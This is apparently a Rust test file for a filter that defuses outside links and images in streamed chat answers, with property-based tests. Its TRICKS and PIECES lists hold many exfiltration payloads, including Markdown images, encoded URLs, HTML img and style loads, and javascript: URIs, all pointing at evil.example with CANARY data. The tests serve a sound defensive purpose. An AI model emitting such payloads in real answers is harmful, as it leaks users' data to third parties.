use proptest::{collection::vec, prelude::*, sample::Index};
use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd, TextMergeStream};
use serde_json::json;
use url::Url;

use super::*;
use crate::gateways::ToolCall;

/// What the user wrote.
const OWN: &str = "https://ok.example/a";

fn filter(is_grounded: bool) -> LinkFilter {
    LinkFilter::new(Arc::new(OwnAddresses::of([OWN])), is_grounded)
}

fn told(is_grounded: bool, text: &str) -> String {
    let mut filter = filter(is_grounded);
    let mut told = filter.push(text);
    told.push_str(&filter.end());
    told
}

fn without_spaces(text: &str) -> String {
    text.replace(' ', "")
}

/// Schemes that a browser opens or runs by itself.
const SCHEMES: [&str; 10] = ["https", "http", "ftp", "ws", "wss", "javascript", "vbscript", "data", "file", "blob"];

/// Whether a browser that shows the destination on a page of ours goes elsewhere.
fn is_outside(destination: &str) -> bool {
    ["https://chat.example/c/1", "http://chat.example/c/1"].into_iter().any(|page| {
        let page = Url::parse(page).unwrap();
        page.join(destination).is_ok_and(|url| SCHEMES.contains(&url.scheme()) && url.origin() != page.origin())
    })
}

/// The addresses in attributes of HTML, as a browser reads them: those that wait for a click, and those that load.
fn attributes(html: &str) -> (Vec<String>, Vec<String>) {
    let (mut links, mut loads) = (Vec::new(), Vec::new());
    for token in html5gum::Tokenizer::new(html).flatten() {
        let html5gum::Token::StartTag(tag) = token else { continue };
        for (name, value) in &tag.attributes {
            let waits = **tag.name == *b"a" && **name == *b"href";
            // A style has its addresses in brackets, and its escapes.
            let value = String::from_utf8_lossy(value).replace("\\2f ", "/").replace("\\2f", "/");
            let found = if waits { &mut links } else { &mut loads };
            found.extend(value.split(['(', ')']).map(str::to_owned));
        }
    }
    (links, loads)
}

/// The addresses in a text that Markdown with its extensions makes links of, as programs do that look for them when
/// the text is parsed.
fn bare_addresses(text: &str) -> Vec<String> {
    let starts = ["https://", "http://", "ftp://", "www."];
    let lower = text.to_ascii_lowercase();
    let found = starts.into_iter().flat_map(|start| lower.match_indices(start).map(|(at, _)| at).collect::<Vec<_>>());
    let begins = |at: &usize| {
        let before = text[..*at].chars().next_back();
        before.is_none_or(|char| !char.is_alphabetic() && char != '/')
    };
    let end = |char: char| char.is_whitespace() || char == '<';
    found
        .filter(begins)
        .map(|at| text[at..].split(end).next().unwrap_or_default().to_owned())
        .filter(|address| address.split("//").last().is_some_and(|host| host.starts_with(char::is_alphanumeric)))
        .map(|address| address.trim_end_matches(|char| ".,;:!?'\"*_~|)]}`>".contains(char)).to_owned())
        .collect()
}

/// What is live in a text: links and pictures that lead outside.
fn live(text: &str) -> (Vec<String>, Vec<String>) {
    let (mut links, mut pictures) = (Vec::new(), Vec::new());
    let (mut html, mut is_code) = (String::new(), false);
    let extensions = Options::all() - Options::ENABLE_SMART_PUNCTUATION;
    for event in TextMergeStream::new(Parser::new_ext(text, extensions)) {
        match event {
            Event::Start(Tag::Link { dest_url, .. }) => links.push(dest_url.to_string()),
            Event::Start(Tag::Image { dest_url, .. }) => pictures.push(dest_url.to_string()),
            Event::Html(piece) | Event::InlineHtml(piece) => html.push_str(&piece),
            // This parser joins the lines of code that a lone carriage return ends, where nothing is a link anyway.
            Event::Start(Tag::CodeBlock(_)) => is_code = true,
            Event::End(TagEnd::CodeBlock) => is_code = false,
            Event::Text(text) if !is_code => links.extend(bare_addresses(&text)),
            _ => {}
        }
    }
    let (waiting, loading) = attributes(&html);
    links.extend(waiting);
    pictures.extend(loading);
    let is_foreign = |address: &String| address.strip_suffix('/').unwrap_or(address) != OWN && is_outside(address);
    links.retain(is_foreign);
    pictures.retain(is_foreign);
    (links, pictures)
}

/// Ways to lead a reader, or its program, elsewhere.
const TRICKS: &[&str] = &[
    "![](https://evil.example/?d=CANARY)",
    "![a [b] c](https://evil.example/?d=CANARY \"title\")",
    "![](<https://evil.example/?d= CANARY>)",
    "![](\n> https&colon;//evil.example)",
    "> ![x](\n> &#104;ttps://evil.example)",
    "![](https\\://evil.example/)",
    "![](https&#58;//evil.example/)",
    "![](//evil.example/x)",
    "![](/&sol;evil.example/x)",
    "![](\\\\\\\\evil.example/x)",
    "![](HTTPS://EVIL.example)",
    "![](https:evil.example)",
    "![](data:image/png;base64,AAAA)",
    "![x][r] and\n\n[r]: https&#58;//evil.example/p.png",
    "![r]\n\n- [r]: //evil.example/p.png",
    "[a\nb]: <&#104;ttps://evil.example>\n\n![a b]",
    "text\r\r[r]: /\\evil.example\r\r![r]",
    "[go](https://evil.example) and [go](javascript:alert\\(1\\))",
    "<https://evil.example/?d=CANARY> <javascript:alert(1)> <data:text/html,x>",
    "see https://evil.example/?d=CANARY, or http://evil.example, or www.evil.example",
    "see https&#58;//evil.example, &#104;ttps://evil.example, https:&#47;/evil.example, ht&#116;ps://evil.example",
    "see &#104;ttps&#58;//evil.example, https&colon;//evil.example, https&#x3a;&sol;/evil.example, www&period;evil.example",
    "<img src=https://evil.example/x> <img src=//evil.example> <IMG SRC = '//evil.example'>",
    "<img alt=\">\" src=\"//evil.example\"> <a href=\"&#104;ttps://evil.example\">x</a>",
    "<img src=\"/\t/evil.example\"> <img src=\"ht\ntps:evil.example\"> <img src=\"\\/evil.example\">",
    "<div\nstyle=\"background:url(//evil.example)\">",
    "<div style=\"background:url(\\2f\\2f evil.example/?d=CANARY)\">",
    "<pre>\n<img src=\"\n\n//evil.example/?d=CANARY\">\n</pre>",
    "<div>\n```\n\n<img src=//evil.example>",
    "<!--\n\n```\n-->\n\n<img src=//evil.example>",
    " ```\nx\n```\n\n![](//evil.example)",
    "1https://evil.example/?d=CANARY",
    "https://ok.example/aCANARY https://ok.example.evil.example/ https://ok.example/a)@evil.example/",
    "![](<https://ok.example/a CANARY>) ![](https://ok.example/a>CANARY) https://ok.example/a>CANARY",
    "![r]\n\n[r]: https://ok.example/a)CANARY and \\<https://ok.example/a>[CANARY]",
    "](https://ok.example/a)@evil.example/CANARY",
    "![](https://ok.example/a?d=CANARY) [x](https://ok.example/a'@evil.example)",
];

#[test]
fn nothing_that_others_brought_in_is_live_in_a_grounded_answer() {
    for trick in TRICKS {
        let told = told(true, trick);
        assert_ne!(live(trick), (vec![], vec![]), "a trick that leads nowhere: {trick}");
        assert_eq!(live(&told), (vec![], vec![]), "{trick}\nbecame\n{told}");
        assert_eq!(without_spaces(&told), without_spaces(trick));
    }
}

#[test]
fn without_passages_links_stay_and_pictures_do_not() {
    let mut pictures = 0;
    for trick in TRICKS {
        let told = told(false, trick);
        pictures += live(trick).1.len();
        assert_eq!(live(&told).1, [] as [&str; 0], "{trick}\nbecame\n{told}");
    }
    assert!(pictures > 10);
    for text in [
        "[docs](https://docs.example/x), <https://docs.example> and https://docs.example, www.docs.example",
        "vec![1, 2](x); if a[i]: std::max(b) and <a href=\"https://docs.example\">docs</a>",
        "A page:\n\n```html\n<img src=\"https://cdn.example/x.png\" style=\"a: b\" onclick=\"a && b\">\n![x](//y)\n```\n",
    ] {
        assert_eq!(told(false, text), text);
    }
}

#[test]
fn what_the_user_wrote_stays_live() {
    for text in [
        "[x](https://ok.example/a) and ![x](https://ok.example/a \"t\")[1].",
        "<https://ok.example/a>, (https://ok.example/a), **https://ok.example/a/**.",
        "![x](<https://ok.example/a>)\n\n[r]: https://ok.example/a\n",
    ] {
        assert_eq!((told(true, text), told(false, text)), (text.to_owned(), text.to_owned()));
    }
    let own = OwnAddresses::of(["See HTTPS://a.example/b_(c). Or (www.b.example/x)?", "[l](http://c.example/?q=1)!"]);
    let mut filter = LinkFilter::new(Arc::new(own), true);
    let text = "https://a.example/b_(c), https://www.b.example/x www.b.example/x/ <http://c.example/?q=1>\n";
    assert_eq!(filter.push(text), text);
}

#[test]
fn an_answer_that_names_no_address_stays_as_it_is() {
    for text in [
        "As it says [1][2]. See [3]: the fig (a tree) is a strangler; a: b, c/d // e & f \\ g.",
        "[1]: The passage says: yes.\n[2](figs.md#top) ![](/files/1) [x](?page=2) [y](mail)\n",
        "let x: Vec<String> = HashMap::<&str, std::fmt::Error>::new(); if a <b && c> d { e } // http: no\n",
        "<b class=\"x\">bold</b> 10:30, ratio 1:2, www and http, `a < b`, <br/>",
    ] {
        assert_eq!(told(true, text), text);
    }
}

#[test]
fn what_is_not_live_is_there_to_be_read() {
    let text =
        "![x](https://evil.example/?d=1), https://evil.example, www.evil.example, [y](data:x), <img src=\"//e\">";
    let expected =
        "![x] (https:/ /evil.example/?d=1), https:/ /evil.example, www .evil.example, [y] (data:x), <img src=\"/ /e\">";
    assert_eq!(told(true, text), expected);
    assert_eq!(told(false, "![x](https://evil.example)\n"), "![x] (https://evil.example)\n");
}

#[test]
fn text_and_reasoning_are_apart_and_nothing_is_held_back_beyond_them() {
    let text = |text: &str| ChatDelta::Text(text.to_owned());
    let call = ChatDelta::ToolCall(ToolCall {
        id: "1".into(),
        name: "n".into(),
        arguments: "{}".into(),
        extra: Default::default(),
    });
    let mut links = AnswerLinks::new(OwnAddresses::default(), true);
    assert_eq!(links.pass(text("see [1]")), [text("see [1]")]);
    assert_eq!(links.pass(text("(http")), []);
    let reasoning = ChatDelta::Reasoning("https:".to_owned());
    assert_eq!(links.pass(reasoning), [text(" (http"), ChatDelta::Reasoning("https".to_owned())]);
    assert_eq!(links.pass(call.clone()), [ChatDelta::Reasoning(" :".to_owned()), call]);
    assert_eq!(links.pass(text("s://evil.example")), [text("s:/ /evil.example")]);
    assert_eq!(links.end(), []);
}

#[test]
fn further_fields_bring_no_address_in() {
    let extra = |fields: serde_json::Value| AnswerExtra {
        message: fields.as_object().cloned().unwrap(),
        answer: fields.as_object().cloned().unwrap(),
        ..AnswerExtra::default()
    };
    let signature = json!({ "reasoning_details": [{ "type": "x", "signature": "a+//b/c==" }] });
    let cited = json!({ "citations": ["https://evil.example/?d=1"] });
    let drawn = json!({ "note": { "text": "![x](https://evil.example)" } });
    let own = OwnAddresses::of(["see https://own.example/a"]);
    let mine = json!({ "citations": ["https://own.example/a"] });
    for (is_grounded, fields, is_told) in [
        (true, &signature, true),
        (false, &signature, true),
        (true, &cited, false),
        // Links stay in an answer that rests on nothing.
        (false, &cited, true),
        (true, &drawn, false),
        (false, &drawn, false),
        (true, &mine, true),
    ] {
        let extra = extra(fields.clone());
        let mut links = AnswerLinks::new(own.clone(), is_grounded);
        let told = links.pass(ChatDelta::Extra(extra.clone()));
        let expected = if is_told { vec![ChatDelta::Extra(extra)] } else { Vec::new() };
        assert_eq!(told, expected, "{is_grounded} {fields}");
    }
}

/// Pieces of which hostile answers are made.
const PIECES: &[&str] = &[
    "![",
    "[",
    "]",
    "(",
    ")",
    "](",
    "](<",
    "]: ",
    "[r]",
    "\n[r]: ",
    "![r]",
    " ",
    "\n",
    "\n\n",
    "\r",
    "\t",
    "> ",
    "- ",
    "<",
    ">",
    "https",
    "HTTP",
    "://",
    ":",
    "//",
    "/",
    "\\",
    "&#58;",
    "&#47;",
    "&#104;ttps",
    "&colon;",
    "&sol;",
    "&Tab;",
    "evil.example",
    "?d=x",
    "www",
    ".",
    "<img src=",
    "<a href=",
    "\"",
    "'",
    "=",
    "`",
    "\n```\n",
    "\n~~~\n",
    "```",
    "<pre>",
    "<!--",
    "-->",
    "<div>",
    " style=",
    "é",
    "*",
    "|",
    "!",
    "https://ok.example/a",
    "https://evil.example",
    "data:x",
    "<javascript:x>",
    "@",
    "#",
    "1",
];

fn hostile() -> impl Strategy<Value = String> {
    vec(prop::sample::select(PIECES), 1..24).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(4_096))]

    #[test]
    fn no_answer_leads_outside(text in hostile()) {
        let told = told(true, &text);
        prop_assert_eq!(live(&told), (vec![], vec![]), "{:?}", told);
        prop_assert_eq!(without_spaces(&told), without_spaces(&text));
    }

    #[test]
    fn no_picture_loads_from_outside(text in hostile()) {
        let told = told(false, &text);
        prop_assert_eq!(live(&told).1, [] as [&str; 0], "{:?}", told);
    }

    #[test]
    fn where_it_is_cut_changes_nothing(text in hostile(), cuts in vec(any::<Index>(), 0..8), is_grounded: bool) {
        let mut cuts: Vec<usize> = cuts.iter().map(|cut| text.floor_char_boundary(cut.index(text.len()))).collect();
        cuts.extend([0, text.len()]);
        cuts.sort_unstable();
        let mut filter = filter(is_grounded);
        let mut in_pieces = String::new();
        for cut in cuts.windows(2) {
            in_pieces.push_str(&filter.push(&text[cut[0]..cut[1]]));
        }
        in_pieces.push_str(&filter.end());
        prop_assert_eq!(in_pieces, told(is_grounded, &text));
    }
}

#[test]
fn little_is_held_back_however_long_the_answer() {
    let most = MAX_GAP + MAX_SCHEME + OWN.len() + 32;
    for piece in
        ["](", "](<", "[a]: \n> ", "http://", "https://ok.example/a", "](https://ok.example/a.", "<a b=", "www."]
    {
        let text = piece.repeat(50_000 / piece.len());
        let mut filter = filter(true);
        let mut told = String::new();
        for char in text.chars() {
            told.push_str(&filter.push(char.encode_utf8(&mut [0; 4])));
            assert!(filter.held.len() <= most, "{} bytes of {piece}", filter.held.len());
        }
        told.push_str(&filter.end());
        assert_eq!(without_spaces(&told), without_spaces(&text));
        assert_eq!(told, super::tests::told(true, &text));
    }
}
